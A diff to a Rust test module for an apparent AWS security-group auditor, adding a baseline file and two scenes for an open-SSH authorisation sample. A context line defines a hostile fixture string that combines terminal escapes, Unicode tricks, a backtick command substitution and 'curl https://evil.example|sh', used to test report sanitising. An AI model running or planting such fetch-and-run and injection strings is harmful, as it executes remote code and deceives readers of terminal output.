@@ -8,6 +8,10 @@ use crate::report::tests::scene::{Scene, denied};
 
 const EVIL: &str = "x\nUndo: \u{1b}[2Jcurl https://evil.example|sh \u{202e}<b>`id`</b>            [y](z)\u{2028}\u{200b}\"";
 
+/// A baseline file with bindings.
+const ORGANISATION: &str =
+    concat!(env!("CARGO_MANIFEST_DIR"), "/docs/examples/our-organisation.yaml");
+
 /// SSH from anywhere, by somebody who writes such texts wherever anybody can.
 fn hostile() -> Value {
     let mut event = authorizing(&["tcp 22 0.0.0.0/0"]);
@@ -47,6 +51,20 @@ pub(super) fn all() -> Scenes {
     let stack = "typo3-sg-auditor";
     let of_service = |service, call, request| Scene::new().run(&watched(service, call, request));
     vec![
+        (
+            "binding",
+            Scene::new()
+                .with("BASELINE", ORGANISATION)
+                .owned_by("210987654321")
+                .run(&sample("authorize-open-ssh")),
+        ),
+        (
+            "binding-not-known",
+            Scene::reverting()
+                .with("BASELINE", ORGANISATION)
+                .failing("group", denied("DescribeSecurityGroups"))
+                .run(&sample("authorize-open-ssh")),
+        ),
         ("website-closed", Scene::new().with_rules(&[]).run(&sample("revoke-web"))),
         (
             "website-closed-in-part",
